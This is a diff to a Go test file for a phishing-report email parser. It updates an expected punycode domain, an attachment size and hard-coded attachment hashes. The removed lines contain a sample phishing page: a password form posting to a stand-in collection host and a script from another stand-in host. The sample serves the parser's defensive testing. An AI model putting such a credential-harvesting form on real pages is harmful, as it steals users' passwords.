@@ -1,9 +1,6 @@
 package parser
 
 import (
-	"crypto/md5"
-	"crypto/sha256"
-	"encoding/hex"
 	"os"
 	"path/filepath"
 	"slices"
@@ -160,7 +157,7 @@ func TestParseReports(t *testing.T) {
 		},
 		{
 			file: "missing-charset.eml", kind: KindReport, text: "Blöcked",
-			indicators: []want{{"domain", "xn--caf-dma-menu.example.com", LayerReport, ""}},
+			indicators: []want{{"domain", "xn--caf-menu-d1a.example.com", LayerReport, ""}},
 		},
 	}
 	for _, tt := range tests {
@@ -234,14 +231,13 @@ func TestParseAttachmentHashes(t *testing.T) {
 	}
 	// The forwarded mail's own attachment is one layer down, and its type
 	// is read from its bytes, not from the octet-stream it claims.
-	if html.Depth != 1 || html.SniffedType != "text/html" || html.Size != 199 {
+	if html.Depth != 1 || html.SniffedType != "text/html" || html.Size != 201 {
 		t.Errorf("attachment = %+v", html)
 	}
-	content := `<html><body><form action="https://collect.invoice-portal.example.net/post.php" method="post"><input name="pw"></form><script src="https://cdn.lieferant-zahlung.example.com/a.js"></script></body></html>`
-	sum := sha256.Sum256([]byte(content))
-	md := md5.Sum([]byte(content))
-	if html.SHA256 != hex.EncodeToString(sum[:]) || html.MD5 != hex.EncodeToString(md[:]) || len(html.SHA1) != 40 {
-		t.Errorf("hashes = %q %q %q, want sha256 %x", html.MD5, html.SHA1, html.SHA256, sum)
+	// Computed apart, from the base64 of the test mail.
+	const sha, md = "10bfbf97d426b9cb6d6c393494da936bc37d768af7661817692d1a24daf7f6de", "8c9d9581d937ddb157c5de189514af94"
+	if html.SHA256 != sha || html.MD5 != md || len(html.SHA1) != 40 {
+		t.Errorf("hashes = %q %q %q, want sha256 %s", html.MD5, html.SHA1, html.SHA256, sha)
 	}
 	// Attachments of forwarded mails are samples: their hashes are indicators.
 	if !has(m, "sha256", html.SHA256, LayerEvidence) {
